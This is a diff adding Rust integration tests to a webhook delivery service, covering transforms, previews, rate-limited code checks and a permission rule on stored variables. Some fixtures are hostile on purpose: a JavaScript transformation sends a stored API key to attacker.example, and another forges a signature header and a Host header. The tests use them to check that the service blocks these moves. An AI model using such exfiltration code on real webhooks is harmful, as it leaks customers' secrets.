@@ -1715,3 +1715,232 @@ async fn a_refused_name_and_an_unknown_one_are_told_alike() {
     assert!(told[0].contains("is refused"), "{told:?}");
     assert_eq!(told[0], told[1]);
 }
+
+/// Posts `body` (JSON text, which may hold what `serde_json::Value` cannot: `1e400`, a lone
+/// surrogate) to `path` with the admin token.
+async fn post_text(server: &Server, path: &str, body: String) -> (u16, Value) {
+    let request = server
+        .client
+        .post(server.url(path))
+        .bearer_auth(ADMIN)
+        .header("content-type", "application/json")
+        .body(body)
+        .send();
+    read(request.await.expect("POST")).await
+}
+
+/// A payload the API takes but serde cannot read as a value (`1e400`, a lone surrogate) is
+/// not made into a body of `null`s by a `transform` template and recorded as a success: its
+/// delivery fails at once, saying why, with no retry, and nothing is sent. A preview says
+/// the same. A payload it can read is transformed as ever.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_transform_sends_no_nulls_for_a_payload_it_cannot_read() {
+    let server = Server::start("[delivery]\nretry_schedule = [\"50ms\"]").await;
+    let rx = Receiver::start().await;
+    let app = server.create_app("unreadable").await;
+    let template = json!({ "id": "{{ id }}", "amount": "{{ amount }}" });
+    let (ep, _) = server.create_endpoint(&app, json!({ "url": rx.url, "transform": template })).await;
+    let unreadable = [r#"{"id":"evt_1","amount":5,"n":1e400}"#, r#"{"id":"evt_2","amount":5,"note":"\ud800"}"#];
+    let mut failed = Vec::new();
+    for payload in unreadable {
+        let (status, out) = post_text(
+            &server,
+            &format!("/api/v1/app/{app}/msg"),
+            format!(r#"{{"eventType":"a.b","payload":{payload}}}"#),
+        )
+        .await;
+        assert_eq!(status, 202, "{out}");
+        // The answer holds the payload, which `Value` cannot hold either: read as text.
+        let text = out.as_str().unwrap_or_default();
+        let id = text.split(r#""id":""#).find(|s| s.starts_with("msg_")).and_then(|s| s.split('"').next());
+        failed.push(id.unwrap_or_else(|| panic!("a message id in {text}")).to_string());
+        let preview = format!(r#"{{"payload":{payload}}}"#);
+        let (status, out) = post_text(&server, &format!("/api/v1/app/{app}/endpoint/{ep}/preview"), preview).await;
+        assert_eq!((status, &out["detail"][0]["loc"]), (422, &json!(["body", "payload"])), "{payload}: {out}");
+    }
+    let fine = server.send_message(&app, "a.b", json!({ "id": "evt_3", "amount": 7, "n": 1 })).await;
+    let got = rx.wait_for(1, WAIT).await;
+    assert_eq!((got[0].header("webhook-id"), got[0].json()), (fine.as_str(), json!({ "id": "evt_3", "amount": 7 })));
+    for msg in &failed {
+        let path = format!("/api/v1/app/{app}/attempt/msg/{msg}");
+        let attempts = server.wait_until(&path, WAIT, |b| !b["data"].as_array().unwrap().is_empty()).await;
+        let response = attempts["data"][0]["response"].as_str().unwrap_or_default();
+        assert!(response.contains("the transform cannot read the payload"), "{attempts}");
+    }
+    settle().await;
+    for msg in &failed {
+        let attempts = server.call("GET", &format!("/api/v1/app/{app}/attempt/msg/{msg}"), None).await.1;
+        assert_eq!(attempts["data"].as_array().unwrap().len(), 1, "not retried: {attempts}");
+        let sent = server.call("GET", &format!("/api/v1/app/{app}/msg/{msg}/endpoint"), None).await.1;
+        assert_eq!(sent["data"][0]["status"], 2, "failed: {sent}");
+    }
+    assert_eq!(rx.received().len(), 1, "nothing was sent for the unreadable payloads");
+}
+
+/// A transformation that leaves the payload as it was sends the message's body as it came,
+/// with its content type (`transformationsParams.headers.content-type`): only a body it
+/// makes is `application/json`.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_transformation_that_leaves_the_payload_keeps_its_content_type() {
+    let server = Server::start("").await;
+    let (kept, made) = (Receiver::start().await, Receiver::start().await);
+    let app = server.create_app("content-type").await;
+    let codes = [
+        (&kept, "function handler(w) { w.headers['x-seen'] = 'yes'; return w }"),
+        (&made, "function handler(w) { w.payload = { wrapped: w.payload }; return w }"),
+    ];
+    for (rx, code) in codes {
+        let (ep, _) = server.create_endpoint(&app, json!({ "url": rx.url })).await;
+        let path = format!("/api/v1/app/{app}/endpoint/{ep}/transformation");
+        let (status, out) = server.call("PATCH", &path, Some(json!({ "code": code, "enabled": true }))).await;
+        assert_eq!(status, 204, "{out}");
+    }
+    let body = json!({ "eventType": "a.b", "payload": { "data": { "id": 1 } },
+                       "transformationsParams": { "headers": { "content-type": "application/vnd.api+json" } } });
+    let (status, out) = server.call("POST", &format!("/api/v1/app/{app}/msg"), Some(body)).await;
+    assert_eq!(status, 202, "{out}");
+    let got = kept.wait_for(1, WAIT).await;
+    assert_eq!(got[0].header("x-seen"), "yes", "the code ran");
+    assert_eq!(got[0].header("content-type"), "application/vnd.api+json");
+    assert_eq!(got[0].json(), json!({ "data": { "id": 1 } }));
+    let got = made.wait_for(1, WAIT).await;
+    assert_eq!(got[0].header("content-type"), "application/json");
+    assert_eq!(got[0].json(), json!({ "wrapped": { "data": { "id": 1 } } }));
+}
+
+/// A preview shows what a delivery would send: not the headers hooklane sets itself, which
+/// a delivery leaves out whatever the code sets (they are named as dropped), and with no
+/// rule making a body, the payload as posted, even one serde cannot read (`1e400`).
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_preview_shows_what_a_delivery_sends() {
+    let server = Server::start("").await;
+    let rx = Receiver::start().await;
+    let app = server.create_app("preview-as-sent").await;
+    let (ep, _) = server.create_endpoint(&app, json!({ "url": rx.url })).await;
+    let preview = format!("/api/v1/app/{app}/endpoint/{ep}/preview");
+    let code = "function handler(w) { w.headers = { 'content-type': 'text/plain', 'webhook-signature': 'v1,forged', \
+                Host: 'evil.example', 'X-Ok': '1' }; return w }";
+    let (status, out) =
+        server.call("POST", &preview, Some(json!({ "payload": { "a": 1 }, "transformation": code }))).await;
+    assert_eq!(status, 200, "{out}");
+    assert_eq!(out["headers"], json!({ "X-Ok": "1" }), "{out}");
+    assert_eq!(out["droppedHeaders"], json!(["Host", "content-type", "webhook-signature"]), "{out}");
+    assert_eq!(out["body"], json!({ "a": 1 }), "{out}");
+    // A delivery with that code sends the same.
+    let path = format!("/api/v1/app/{app}/endpoint/{ep}/transformation");
+    let (status, out) = server.call("PATCH", &path, Some(json!({ "code": code, "enabled": true }))).await;
+    assert_eq!(status, 204, "{out}");
+    let msg = server.send_message(&app, "a.b", json!({ "a": 1 })).await;
+    let got = rx.wait_for(1, WAIT).await;
+    assert_eq!((got[0].header("webhook-id"), got[0].header("x-ok")), (msg.as_str(), "1"));
+    assert_eq!(got[0].header("content-type"), "application/json");
+    assert_ne!(got[0].header("webhook-signature"), "v1,forged");
+    let (status, _) = server.call("PATCH", &path, Some(json!({ "enabled": false }))).await;
+    assert_eq!(status, 204);
+    // No rules: the payload as posted, which a delivery sends byte for byte.
+    let payload = r#"{"id": "evt_1", "n": 1e400}"#;
+    let (status, out) = post_text(&server, &preview, format!(r#"{{"payload": {payload}}}"#)).await;
+    let text = out.as_str().unwrap_or_default();
+    assert_eq!(status, 200, "{out}");
+    assert!(text.contains(&format!(r#""body":{payload}"#)), "{text}");
+}
+
+/// Code being saved is checked on one worker shared by the applications: one application
+/// checks one at a time (another while one runs is 429 `busy`), so that its token saving
+/// slow code from many requests at once cannot keep another application's save from the
+/// worker past its wait (503).
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn one_application_checks_its_code_one_at_a_time() {
+    let server = Server::start("").await;
+    let (greedy, other) = (server.create_app("greedy-checks").await, server.create_app("other-checks").await);
+    let (ep, _) = server.create_endpoint(&greedy, json!({ "url": "https://example.com/hook" })).await;
+    let (other_ep, _) = server.create_endpoint(&other, json!({ "url": "https://example.com/hook" })).await;
+    // Each check runs 2 s, till its worker is killed.
+    let slow = "'a'.repeat(4e6).indexOf('a'.repeat(2e6) + 'b'); function handler(w) { return w }";
+    let patch = |app: &str, ep: &str, code: String| {
+        let path = format!("/api/v1/app/{app}/endpoint/{ep}/transformation");
+        let request = server.client.patch(server.url(&path)).bearer_auth(ADMIN).json(&json!({ "code": code })).send();
+        async move {
+            let response = request.await.expect("PATCH");
+            let retry_after = response.headers().get("retry-after").map(|v| v.to_str().unwrap_or_default().to_string());
+            let (status, body) = read(response).await;
+            (status, body, retry_after)
+        }
+    };
+    let greedy_saves = futures::future::join_all((0..6).map(|i| patch(&greedy, &ep, format!("{slow} // {i}"))));
+    let other_save = async {
+        tokio::time::sleep(Duration::from_millis(500)).await;
+        let started = Instant::now();
+        let answer = patch(&other, &other_ep, "function handler(w) { return w }".into()).await;
+        (answer, started.elapsed())
+    };
+    let (greedy_answers, ((status, body, _), took)) = tokio::join!(greedy_saves, other_save);
+    assert_eq!(status, 204, "another application's save waits for one check at most, {took:?}: {body}");
+    let busy: Vec<_> = greedy_answers.iter().filter(|(status, ..)| *status == 429).collect();
+    assert_eq!(busy.len(), 5, "{greedy_answers:?}");
+    for (_, body, retry_after) in busy {
+        assert_eq!((&body["code"], retry_after.as_deref()), (&json!("busy"), Some("1")), "{body}");
+    }
+    // Killed as the code's fault (or, should the machine be too busy to give it the CPU
+    // time, handed back as unavailable).
+    let ran: Vec<_> = greedy_answers.iter().filter(|(status, ..)| *status != 429).collect();
+    assert!(matches!(ran[0].0, 422 | 503), "{:?}", ran[0]);
+    // Once it has answered, the application checks again.
+    let (status, body, _) = patch(&greedy, &ep, "function handler(w) { return w }".into()).await;
+    assert_eq!(status, 204, "{body}");
+}
+
+/// A token that may change transformations but not see their variables' values
+/// (`ManageTransformations` without `ViewEndpointSecret`) cannot keep the stored values
+/// under code of its own, which could send them anywhere: new code needs every value given
+/// again, or none. Code it leaves as it is keeps them (enabling it, a read-modify-write).
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn new_code_from_a_token_that_may_not_see_the_variables_keeps_none() {
+    let server = Server::start("").await;
+    let app = server.create_app("variables").await;
+    let (ep, _) = server.create_endpoint(&app, json!({ "url": "https://example.com/hook" })).await;
+    let path = format!("/api/v1/app/{app}/endpoint/{ep}/transformation");
+    let own = "function handler(w) { w.headers['x-api-key'] = w.variables.apiKey; return w }";
+    let setup = json!({ "code": own, "enabled": true, "variables": { "apiKey": "k-secret-123" } });
+    assert_eq!(server.call("PATCH", &path, Some(setup)).await.0, 204);
+    let (status, access) = server
+        .call(
+            "POST",
+            &format!("/api/v1/auth/app-portal-access/{app}"),
+            Some(json!({ "capabilities": ["ViewBase", "ManageTransformations"] })),
+        )
+        .await;
+    assert_eq!(status, 200, "{access}");
+    let token = access["token"].as_str().expect("token").to_string();
+    let stored = || async { server.call("GET", &path, None).await.1 };
+    let exfiltrate = "function handler(w) { w.url = 'https://attacker.example/?k=' + w.variables.apiKey; return w }";
+    for refused in [
+        json!({ "code": exfiltrate }),
+        json!({ "code": exfiltrate, "variables": { "apiKey": "[redacted]" } }),
+        json!({ "code": exfiltrate, "variables": { "apiKey": "[redacted]", "region": "eu" } }),
+    ] {
+        let (status, out) = server.call_as(&token, "PATCH", &path, Some(refused.clone())).await;
+        assert_eq!((status, &out["detail"][0]["loc"]), (422, &json!(["body", "variables"])), "{refused}: {out}");
+        assert!(out["detail"][0]["msg"].as_str().unwrap_or_default().contains("apiKey"), "{out}");
+    }
+    let now = stored().await;
+    assert_eq!((&now["code"], &now["variables"]), (&json!(own), &json!({ "apiKey": "k-secret-123" })), "{now}");
+    // The code as it is keeps them: toggled, or written back as read.
+    assert_eq!(server.call_as(&token, "PATCH", &path, Some(json!({ "enabled": false }))).await.0, 204);
+    let (_, read_back) = server.call_as(&token, "GET", &path, None).await;
+    let back = json!({ "code": read_back["code"], "enabled": true, "variables": read_back["variables"] });
+    assert_eq!(server.call_as(&token, "PATCH", &path, Some(back)).await.0, 204);
+    assert_eq!(stored().await["variables"], json!({ "apiKey": "k-secret-123" }));
+    // New code with every value given again (values it knows), or with none.
+    let given = json!({ "code": exfiltrate, "variables": { "apiKey": "its-own" } });
+    assert_eq!(server.call_as(&token, "PATCH", &path, Some(given)).await.0, 204);
+    assert_eq!(stored().await["variables"], json!({ "apiKey": "its-own" }));
+    let none = json!({ "code": own, "variables": null });
+    assert_eq!(server.call_as(&token, "PATCH", &path, Some(none)).await.0, 204);
+    assert_eq!(stored().await["variables"], json!({}));
+    // Whoever may see them changes the code and keeps them.
+    let admin = json!({ "variables": { "apiKey": "k-secret-123" } });
+    assert_eq!(server.call("PATCH", &path, Some(admin)).await.0, 204);
+    assert_eq!(server.call("PATCH", &path, Some(json!({ "code": exfiltrate }))).await.0, 204);
+    assert_eq!(stored().await["variables"], json!({ "apiKey": "k-secret-123" }));
+}
